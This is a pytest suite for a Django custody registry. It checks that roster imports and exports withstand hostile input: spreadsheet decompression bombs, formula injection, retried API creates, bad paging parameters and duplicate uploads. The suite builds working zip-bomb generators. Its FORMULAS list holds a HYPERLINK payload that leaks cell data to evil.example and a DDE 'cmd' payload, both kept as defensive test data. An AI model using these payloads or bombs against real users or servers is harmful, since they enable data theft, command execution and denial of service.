"""Hostile input (issue 14): roster bombs, formula injection in exports, retried creates, oversized
pages, bad query parameters, duplicate imports and abandoned uploads, each tried as an attacker would,
through the page, the API or the CLI."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command

from custody.registry.models import Person

# ---------------------------------------------------------------------------------------------- bombs

SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')


def _base_workbook() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "dob"])
    ws.append(["Ali Hassan", "1990"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _with_part(part: str, chunks: Iterator[str]) -> bytes:
    """A genuine openpyxl workbook whose `part` is replaced by the streamed `chunks` (deflated as they
    come, so a sheet of hundreds of megabytes is built without holding it)."""
    src = zipfile.ZipFile(io.BytesIO(_base_workbook()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            if info.filename == part:
                continue
            dst.writestr(info, src.read(info.filename))
        with dst.open(part, "w", force_zip64=True) as fh:
            for chunk in chunks:
                fh.write(chunk.encode())
    return out.getvalue()


def sparse_bomb() -> bytes:
    """Two cells, A1 and XFD1048576, and a dimension to match: a few hundred bytes that an unguarded
    read-only openpyxl lays out as a million rows of 16,384 columns."""
    return _with_part("xl/worksheets/sheet1.xml", iter([
        SHEET_HEAD, '<dimension ref="A1:XFD1048576"/><sheetData>',
        '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>',
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
        "</sheetData></worksheet>"]))


def inflation_bomb(megabytes: int = 400) -> bytes:
    """A sheet that deflates about a thousandfold: some hundreds of kilobytes that unpack to `megabytes` MB."""
    row = "".join(f'<c t="inlineStr"><is><t>{"A" * 40}</t></is></c>' for _ in range(20))

    def chunks() -> Iterator[str]:
        yield SHEET_HEAD + "<sheetData>"
        block = "".join(f"<row>{row}</row>" for _ in range(1000))
        for _ in range(megabytes * 1024 * 1024 // len(block) + 1):
            yield block
        yield "</sheetData></worksheet>"

    return _with_part("xl/worksheets/sheet1.xml", chunks())


def cells_bomb(rows: int = 20_000, columns: int = 180) -> bytes:
    """Within the unpacked-size limit, but more cells than a roster may hold."""
    cells = "".join("<c><v>1</v></c>" for _ in range(columns))

    def chunks() -> Iterator[str]:
        yield SHEET_HEAD + "<sheetData>"
        for _ in range(rows):
            yield f"<row>{cells}</row>"
        yield "</sheetData></worksheet>"

    return _with_part("xl/worksheets/sheet1.xml", chunks())


def styles_bomb(formats: int = 400_000) -> bytes:
    """A styles part of hundreds of thousands of cell formats, which openpyxl would build as objects."""
    def chunks() -> Iterator[str]:
        yield ('<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
               f'<cellXfs count="{formats}">')
        for _ in range(formats // 1000):
            yield '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>' * 1000
        yield "</cellXfs></styleSheet>"

    return _with_part("xl/styles.xml", chunks())


BOMBS = {
    "sparse": (sparse_bomb, r"IMPORT_MAX_COLUMNS|IMPORT_MAX_ROWS"),
    "inflation": (inflation_bomb, r"IMPORT_MAX_XLSX_UNCOMPRESSED"),
    "cells": (cells_bomb, r"IMPORT_MAX_CELLS"),
    "styles": (styles_bomb, r"xl/styles.xml unpacks to"),
}


@pytest.fixture(scope="module")
def bomb_files(tmp_path_factory: Any) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("bombs")
    out = {}
    for name, (make, _pattern) in BOMBS.items():
        path = folder / f"{name}.xlsx"
        path.write_bytes(make())
        out[name] = path
    return out


# The worker that reads an upload, in a process of its own so that its peak memory is its own.
WORKER = r"""
import json, os, resource, sys, tracemalloc
import django
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "custody.settings")
django.setup()
from custody.registry import importer


def status_kb(field):
    for line in open("/proc/self/status"):
        if line.startswith(field + ":"):
            return int(line.split()[1])


# Reset the kernel's high-water mark of resident memory (Linux: clear_refs 5), so that the peak read
# after is the read's own, not a transient of django.setup() before it.
try:
    with open("/proc/self/clear_refs", "w") as fh:
        fh.write("5")
    before, hwm = status_kb("VmRSS"), "VmHWM"
except OSError:
    before, hwm = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, None
path = sys.argv[1]
tracemalloc.start()
try:
    importer.read_table(open(path, "rb").read(), os.path.basename(path))
    outcome = "read"
except importer.ImportFileError as exc:
    outcome = str(exc)
traced = tracemalloc.get_traced_memory()[1]
peak = status_kb(hwm) if hwm else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({"outcome": outcome, "before_kb": before, "peak_kb": peak, "traced_peak_kb": traced // 1024,
                  "measure": "VmHWM after clear_refs" if hwm else "ru_maxrss"}))
"""

# What reading a bomb costs the worker, Django and the project loaded: the growth of its peak resident
# size over its resident size before the read (the kernel's high-water mark reset first), and Python's
# own allocations during it (tracemalloc). Both include openpyxl's first import and the file itself.
# Measured on Linux x86-64 on 2026-12-07: 53 MB resident before, a peak of 84-85 MB (+30-32 MB) while
# refusing each bomb, 11-12 MB allocated. The reader before the limits ran into the 3 GB address-space
# cap below on the 5 KB sparse bomb (MemoryError after 12 s) and peaked at 386 MB on the styles bomb.
WORKER_GROWTH_MB = 64
TRACED_PEAK_MB = 32


@pytest.mark.slow
@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_roster_bomb_is_refused_before_parsing_in_bounded_memory(bomb_files: dict[str, Path], bomb: str) -> None:
    path = bomb_files[bomb]
    assert path.stat().st_size < 2 * 1024 * 1024, "a bomb is small on the wire"
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    done = subprocess.run([sys.executable, "-c", WORKER, str(path)], capture_output=True, text=True, timeout=120, env=env,
                          # The address-space cap turns a regression into a MemoryError instead of a swapping machine.
                          preexec_fn=_cap_memory)
    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout.strip().splitlines()[-1])
    assert re.search(BOMBS[bomb][1], result["outcome"]), result
    peak_mb, growth_mb = result["peak_kb"] / 1024, (result["peak_kb"] - result["before_kb"]) / 1024
    traced_mb = result["traced_peak_kb"] / 1024
    print(f"{bomb}: {path.stat().st_size / 1024:.0f} KB, worker peak {peak_mb:.0f} MB (+{growth_mb:.0f} MB, "
          f"Python allocations {traced_mb:.1f} MB): {result['outcome']}")
    assert growth_mb < WORKER_GROWTH_MB and traced_mb < TRACED_PEAK_MB, result


def _cap_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (3 * 1024 ** 3, 3 * 1024 ** 3))


@pytest.fixture
def imp_facility(facility_factory: Any) -> Any:
    return facility_factory("IMP1", custodian="IRQ", kind="prison", country="IQ")


def _upload(c: Any, data: bytes, name: str, prefix: str = "") -> Any:
    from django.core.files.uploadedfile import SimpleUploadedFile

    return c.post(f"{prefix}/registry/import/", {"file": SimpleUploadedFile(name, data), "source": "test"})


def _page_error(r: Any) -> str:
    return r.context["error"] if r.context and "error" in r.context else ""


@pytest.mark.slow
def test_roster_bomb_refused_by_page_and_cli_with_the_limit_named(bomb_files: dict[str, Path], make_user: Any, client_for: Any) -> None:
    clerk = make_user("IRQ", "clerk")
    c = client_for(clerk)
    for name in ("sparse", "inflation"):
        data = bomb_files[name].read_bytes()
        r = _upload(c, data, f"{name}.xlsx")
        assert r.status_code == 200 and re.search(BOMBS[name][1], _page_error(r)), _page_error(r)
        with pytest.raises(CommandError, match=BOMBS[name][1]):
            call_command("import-roster", str(bomb_files[name]), "--user", clerk.username)
    # In Arabic too: the message is translated and still names the setting.
    r = _upload(c, bomb_files["inflation"].read_bytes(), "inflation.xlsx", prefix="/ar")
    error = _page_error(r)
    assert "IMPORT_MAX_XLSX_UNCOMPRESSED" in error and re.search("[\u0600-\u06ff]", error), error
    assert Person.objects.count() == 0


def test_oversized_upload_refused_by_declared_size(make_user: Any, client_for: Any, settings: Any) -> None:
    settings.IMPORT_MAX_BYTES = 1000
    c = client_for(make_user("IRQ", "clerk"))
    r = _upload(c, b"name,dob\n" + b"Ali Hassan,1990\n" * 200, "big.csv")
    assert "IMPORT_MAX_BYTES" in _page_error(r) and "3.1 KB" in _page_error(r), _page_error(r)


@pytest.mark.parametrize(("data", "limit"), [
    (b"name" + b",x" * 300 + b"\nAli\n", "IMPORT_MAX_COLUMNS"),
    (b"name,dob\n" + b"Ali,1990\n" * 30, "IMPORT_MAX_ROWS"),
    (b"name," * 9 + b"z\n" + b"Ali\n" * 12, "IMPORT_MAX_CELLS"),
])
def test_csv_limits_name_row_and_setting(make_user: Any, client_for: Any, settings: Any, data: bytes, limit: str) -> None:
    settings.IMPORT_MAX_ROWS = 20
    settings.IMPORT_MAX_CELLS = 100
    c = client_for(make_user("IRQ", "clerk"))
    error = _page_error(_upload(c, data, "r.csv"))
    assert limit in error and re.search(r"\d", error), error


def test_roster_within_limits_still_imports(make_user: Any, client_for: Any, imp_facility: Any) -> None:
    c = client_for(make_user("IRQ", "clerk"))
    r = _upload(c, _base_workbook(), "ok.xlsx")
    assert r.status_code == 302, _page_error(r)
    page = c.get(r["Location"])
    assert page.context["table"].rows == [["Ali Hassan", "1990"]]


# --------------------------------------------------------------------------------- formula injection

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "  =1+1", "\u200f=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_every_formula_start(value: str) -> None:
    from custody.core.exports import safe_cell

    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ali Hassan", "محمد", "", "a=b", "P-000123", -3.5, 7, None])
def test_safe_cell_leaves_data_alone(value: Any) -> None:
    from custody.core.exports import safe_cell

    assert safe_cell(value) == value


def test_every_csv_and_xlsx_writer_goes_through_safe_cell() -> None:
    """Static guard: a new writer that bypasses custody.core.exports fails here, naming the line."""
    root = Path(__file__).resolve().parents[2] / "custody"
    raw = re.compile(r"csv\.(writer|DictWriter)\(|\bws\.append\(|\.cell\([^)]*value=|xlsxwriter")
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "exports.py" and path.parent.name == "core":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if raw.search(line):
                offenders.append(f"{path.relative_to(root.parent)}:{n}: {line.strip()}")
    assert not offenders, "write cells through custody.core.exports (safe_cell):\n" + "\n".join(offenders)


def test_repatriation_exports_keep_names_as_text(make_user: Any, api_for: Any, facility_factory: Any, person_factory: Any,
                                                 tmp_path: Path) -> None:
    import openpyxl

    fac = facility_factory("INJ1", custodian="IRQ")
    evil, evil_ar = FORMULAS[0], "@SUM(1+1)"
    person_factory(evil, evil_ar, facility=fac, nationality="TN", release_all=True, classification=1, place_of_birth="-2+3")
    api = api_for(make_user("MFA", "analyst"))
    r = api.get("/api/repatriation/countries/TN/export/?fmt=csv")
    assert r.status_code == 200, r.content[:300]
    import csv

    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + evil in cells and "'" + evil_ar in cells and "'-2+3" in cells, rows
    assert not any(c and c[0] in "=+-@" for c in cells), rows
    target = tmp_path / "tn.xlsx"
    analyst = make_user("MFA", "analyst")
    call_command("repatriation-export", "TN", "--format", "xlsx", "--user", analyst.username, "--out", str(target))
    ws = openpyxl.load_workbook(target).active
    values = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not any(c.data_type == "f" for c in values), "no cell of the export is a formula"
    assert "'" + evil in [c.value for c in values]


def test_dedupe_output_keeps_names_as_text(tmp_path: Path) -> None:
    import csv

    src = tmp_path / "in.csv"
    src.write_text("name,dob\n=1+1,1990\n@SUM(A1),1991\nAli Hassan,1980\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    call_command("dedupe", str(src), "--out", str(out))
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["name"] for r in rows] == ["'=1+1", "'@SUM(A1)", "Ali Hassan"]


# ------------------------------------------------------------------------------------ idempotency


def post_routes() -> list[tuple[str, str, type]]:
    """Every POST route of the API's router: (URL pattern, action name, viewset class)."""
    from custody.urls import router

    out = []
    for pattern in router.urls:
        actions = getattr(pattern.callback, "actions", None) or {}
        if "post" in actions:
            out.append((str(pattern.pattern), actions["post"], pattern.callback.cls))
    return out


def _url(pattern: str, world: Any) -> str:
    """The pattern with its path parameters filled from the world (any value will do for routes that
    answer 404 both times: what is compared is the two answers)."""
    values = {"ref": world.person("irq_only").ref, "code": "TN", "reference": "H-0", "pk": "1"}
    url = re.sub(r"\(\?P<(\w+)>[^)]*\)", lambda m: values.get(m.group(1), "1"), pattern)
    return "/api/" + url.strip("^$")


def _row_counts() -> dict[str, int]:
    from django.apps import apps

    return {m._meta.label: m._default_manager.count() for m in apps.get_models() if m._meta.managed and not m._meta.proxy}


def _bodies(world: Any, newcomer: Any) -> dict[str, dict[str, Any]]:
    """Bodies that create something, for the creates the issue names and a few more; every other POST
    route is still walked (with an empty body) and must answer a retry the same way."""
    from django.utils import timezone

    person, prison = world.person("irq_only"), world.facilities["irq_prison"].code
    today = timezone.localdate().isoformat()
    return {
        "registry/people/": {"display_name": "Retried Person", "sex": "M"},
        "ledger/events/": {"kind": "intake", "person": newcomer.ref, "occurred_at": timezone.now().isoformat(), "facility": prison},
        "ledger/roll-calls/": {"facility": prison, "counted": 2},
        "cases/items/": {"people": [person.ref], "kind": "interview", "title": "Retried interview", "source": "test"},
        "coordination/meetings/": {"title": "Retried meeting", "held_on": today, "attendees": ["IRQ"]},
        "coordination/incidents/": {"site": prison, "kind": "other", "occurred_on": today, "severity": 1, "source": "test"},
    }


def test_every_post_route_answers_a_retried_key_once(world: Any, make_user: Any, api_for: Any, person_factory: Any) -> None:
    from custody.core.idempotency import IdempotentDispatchMixin

    routes = post_routes()
    assert len(routes) > 40, routes
    api = api_for(make_user("IRQ", "supervisor"))
    bodies = _bodies(world, person_factory("Newly Arrived", "واصل جديد", originating_agency=world.facilities["irq_prison"].custodian))
    known = {pattern.strip("^$") for pattern, _action, _cls in routes}
    assert set(bodies) <= known, set(bodies) - known
    created = []
    for n, (pattern, _action, cls) in enumerate(routes):
        assert issubclass(cls, IdempotentDispatchMixin), f"{pattern} ({cls.__name__}) does not honour Idempotency-Key"
        url = _url(pattern, world)
        body = bodies.get(pattern.strip("^$"), {})
        key = f"retry-{n}"
        first = api.post(url, body, format="json", HTTP_IDEMPOTENCY_KEY=key)
        before = _row_counts()
        second = api.post(url, body, format="json", HTTP_IDEMPOTENCY_KEY=key)
        print(pattern, first.status_code, str(getattr(first, "data", ""))[:300])
        assert second.status_code == first.status_code, (pattern, first.status_code, second.status_code)
        if 200 <= first.status_code < 300:
            created.append(pattern.strip("^$"))
            assert second["Idempotent-Replay"] == "true", pattern
            assert second.json() == first.json(), pattern
            grown = {k: (before[k], v) for k, v in _row_counts().items() if v != before[k] and k != "core.auditevent"}
            assert not grown, (pattern, grown)
    print("2xx:", created)
    assert set(bodies) <= set(created), set(bodies) - set(created)


def test_retried_key_on_another_path_is_refused_and_a_long_key_named(world: Any, make_user: Any, api_for: Any) -> None:
    api = api_for(make_user("IRQ", "supervisor"))
    prison = world.facilities["irq_prison"].code
    first = api.post("/api/ledger/roll-calls/", {"facility": prison, "counted": 2}, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert first.status_code == 201
    other = api.post("/api/registry/people/", {"display_name": "Someone Else"}, format="json", HTTP_IDEMPOTENCY_KEY="k-1")
    assert other.status_code == 409 and "/api/ledger/roll-calls/" in str(other.json()["Idempotency-Key"])
    long = api.post("/api/ledger/roll-calls/", {"facility": prison, "counted": 2}, format="json", HTTP_IDEMPOTENCY_KEY="k" * 101)
    assert long.status_code == 400 and "Idempotency-Key" in long.json()
    # Another user's identical key is another request.
    mine = api_for(make_user("IRQ", "supervisor")).post("/api/ledger/roll-calls/", {"facility": prison, "counted": 2}, format="json",
                                                         HTTP_IDEMPOTENCY_KEY="k-1")
    assert mine.status_code == 201 and not mine.get("Idempotent-Replay")


def test_a_viewset_registered_later_gets_idempotency_without_asking() -> None:
    from rest_framework import viewsets

    from custody.core.api import CustodyRouter
    from custody.core.idempotency import IdempotentDispatchMixin

    class Brand(viewsets.ViewSet):
        """A new endpoint."""

        def create(self, request: Any) -> Any:
            raise AssertionError("not called")

    router = CustodyRouter()
    router.register("brand/new", Brand, basename="brand-new")
    registered = router.registry[0][1]
    assert issubclass(registered, IdempotentDispatchMixin) and registered.__name__ == "Brand" and registered.__doc__ == "A new endpoint."


# ------------------------------------------------------------------------------------------ pages


def test_page_size_is_capped_and_bad_limits_named(world: Any, make_user: Any, api_for: Any, person_factory: Any, settings: Any) -> None:
    settings.API_MAX_PAGE_SIZE = 3
    for n in range(5):
        person_factory(f"Paged Person {n}", "")
    api = api_for(make_user("IRQ", "supervisor"))
    r = api.get("/api/registry/people/?limit=100000")
    assert r.status_code == 200 and len(r.json()["results"]) == 3 and r.json()["next"], r.json()
    assert r.json()["count"] > 3
    for query, name in (("limit=abc", "limit"), ("limit=-5", "limit"), ("limit=0", "limit"), ("offset=x", "offset"),
                        ("offset=-1", "offset"), ("offset=99999999999999999999", "offset")):
        bad = api.get(f"/api/registry/people/?{query}")
        assert bad.status_code == 400 and name in bad.json(), (query, bad.status_code, bad.content[:200])


# ----------------------------------------------------------------------------------- duplicates

ROSTER = "name,dob,facility\nAli Hassan Alobaidi,1990,IMP1\nOmar Khalid Aljubouri,1985,IMP1\n"


def _commit(c: Any, data: bytes, name: str, **extra: str) -> Any:
    r = _upload(c, data, name)
    assert r.status_code == 302, _page_error(r)
    page = c.get(r["Location"])
    form = {f"map_{i}": page.context["mapping"].get(h, "") for i, h in page.context["columns"]}
    return page, c.post(r["Location"], {**form, "action": "commit", **extra})


def test_duplicate_roster_is_shown_and_refused_on_the_page(make_user: Any, client_for: Any, imp_facility: Any) -> None:
    from custody.registry.models import ImportBatch

    clerk = make_user("IRQ", "clerk")
    c = client_for(clerk)
    _page, r = _commit(c, ROSTER.encode(), "roster.csv")
    assert r.status_code == 302 and ImportBatch.objects.count() == 1
    first = ImportBatch.objects.get()
    # The same rows, re-saved in Windows-1256 under another name: recognised by their content.
    page, r = _commit(c, ROSTER.encode("cp1256"), "roster-again.csv")
    text = page.content.decode()
    assert "This file was imported on" in text and clerk.username in text and f"batch {first.pk}" in text
    assert r.status_code == 200 and r.context["duplicate_refused"] and ImportBatch.objects.count() == 1
    assert Person.objects.count() == 2
    # In Arabic the warning is translated.
    r_ar = c.get(page.request["PATH_INFO"].replace("/registry/", "/ar/registry/", 1))
    assert clerk.username in r_ar.content.decode() and "استُورد" in r_ar.content.decode()
    # Confirmed on purpose, it goes through.
    _page, r = _commit(c, ROSTER.encode(), "roster.csv", allow_duplicate="1")
    assert r.status_code == 302 and ImportBatch.objects.count() == 2 and Person.objects.count() == 4


def test_duplicate_roster_refused_by_cli_and_api(make_user: Any, api_for: Any, imp_facility: Any, tmp_path: Path) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    from custody.registry.models import ImportBatch

    clerk = make_user("IRQ", "clerk")
    src = tmp_path / "roster.csv"
    src.write_text(ROSTER, encoding="utf-8")
    call_command("import-roster", str(src), "--user", clerk.username, stdout=io.StringIO())
    with pytest.raises(CommandError, match=r"This file was imported on .* by " + re.escape(clerk.username)):
        call_command("import-roster", str(src), "--user", clerk.username, stdout=io.StringIO())
    api = api_for(clerk)
    listed = api.get("/api/registry/imports/").json()["results"]
    assert listed[0]["user"] == clerk.username and listed[0]["content_sha256"]
    r = api.post("/api/registry/imports/", {"file": SimpleUploadedFile("r.csv", ROSTER.encode())}, format="multipart")
    assert r.status_code == 409 and r.json()["rule"] == "duplicate_import" and clerk.username in r.json()["detail"], r.json()
    assert r.json()["previous"][0]["id"] == listed[0]["id"]
    dry = api.post("/api/registry/imports/", {"file": SimpleUploadedFile("r.csv", ROSTER.encode()), "dry_run": "true"}, format="multipart")
    assert dry.status_code == 200 and dry.json()["previous_text"] and ImportBatch.objects.count() == 1
    new = api.post("/api/registry/imports/", {"file": SimpleUploadedFile("n.csv", b"name\nZaid Talal Alani\n")}, format="multipart")
    assert new.status_code == 201 and new.json()["rows"] == 1
    # Undone, the earlier import no longer counts.
    call_command("import-undo", str(listed[0]["id"]), "--user", clerk.username, stdout=io.StringIO())
    again = api.post("/api/registry/imports/", {"file": SimpleUploadedFile("r.csv", ROSTER.encode())}, format="multipart")
    assert again.status_code == 201, again.json()


# ----------------------------------------------------------------------------- abandoned uploads


def test_abandoned_upload_is_swept_by_the_task_queue(make_user: Any, client_for: Any, settings: Any, tmp_path: Path,
                                                      monkeypatch: Any) -> None:
    import time

    from django.utils import timezone
    from django_tasks_db.models import DBTaskResult

    from custody.registry.tasks import TASK_PATH
    from custody.registry.uploads import upload_dir

    settings.VAR_DIR = tmp_path
    settings.UPLOAD_MAX_AGE_HOURS = 2
    c = client_for(make_user("IRQ", "clerk"))
    r = _upload(c, ROSTER.encode(), "walked-away.csv")
    token = r["Location"].rstrip("/").split("/")[-2]
    kept = _upload(c, b"name\nAli\n", "recent.csv")["Location"].rstrip("/").split("/")[-2]
    path = upload_dir() / token
    assert path.exists()
    queued = DBTaskResult.objects.filter(task_path=TASK_PATH, status="READY").order_by("run_after")
    assert queued.count() == 2
    # Each upload queued the sweep for when it becomes abandoned: two hours (and a minute) from now.
    wait = queued.first().run_after - timezone.now()
    assert 2 * 3600 < wait.total_seconds() <= 2 * 3600 + 61
    # Two hours pass for the first upload only; the worker runs the queue.
    old = time.time() - 2 * 3600 - 60
    os.utime(path, (old, old))
    queued.update(run_after=timezone.now())
    # The real worker loop, except its between-tasks connection housekeeping: inside the test's
    # transaction (autocommit off) it would close the connection the test runs on (PostgreSQL).
    monkeypatch.setattr("django_tasks_db.management.commands.db_worker.close_old_connections", lambda: None)
    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", stdout=io.StringIO(), stderr=io.StringIO())
    assert not path.exists() and (upload_dir() / kept).exists()
    done = DBTaskResult.objects.filter(task_path=TASK_PATH, status="SUCCESSFUL")
    assert [token] in [d.return_value["removed"] for d in done], list(done.values_list("return_value", flat=True))
    assert c.get(r["Location"]).status_code == 404, "the abandoned upload's page is gone with it"


# ------------------------------------------------------------------------------ unstorable text


def test_text_no_database_stores_is_refused_naming_the_field(world: Any, make_user: Any, api_for: Any) -> None:
    """PostgreSQL stores no NUL, no driver encodes a lone surrogate: a 400 naming where it was, on
    either database (these were 500s on PostgreSQL)."""
    api = api_for(make_user("IRQ", "supervisor"))
    r = api.get("/api/registry/people/", {"nationality": "I\x00Q"})
    assert r.status_code == 400 and "nationality" in r.json(), r.content[:200]
    r = api.get("/api/registry/people/P%00/")
    assert r.status_code == 400 and "ref" in r.json(), r.content[:200]
    r = api.post("/api/registry/people/", {"display_name": "Ali\x00", "sex": "M"}, format="json")
    assert r.status_code == 400 and "display_name" in r.json(), r.content[:200]
    r = api.post("/api/registry/people/", '{"display_name": "\\ud800"}', content_type="application/json")
    assert r.status_code == 400 and "display_name" in r.json(), r.content[:200]
    r = api.post("/api/registry/people/", {"display_name": "Ali\x00"}, format="multipart")
    assert r.status_code == 400 and "display_name" in r.json(), r.content[:200]
    for body in ("true", "null", "[1, 2]", '"text"', "7"):
        r = api.post("/api/ledger/roll-calls/", body, content_type="application/json")
        assert r.status_code == 400 and "JSON object" in r.json()["detail"], (body, r.content[:200])


def test_a_key_of_the_wrong_type_is_absent_not_an_error(world: Any, make_user: Any, api_for: Any) -> None:
    api = api_for(make_user("IRQ", "supervisor"))
    for url in ("/api/planning/scenarios/0b%F0%AB%8D%9A/plan/", "/api/planning/scenarios/abc/plan/"):
        r = api.post(url, {}, format="json")
        assert r.status_code == 404, (url, r.status_code, r.content[:200])
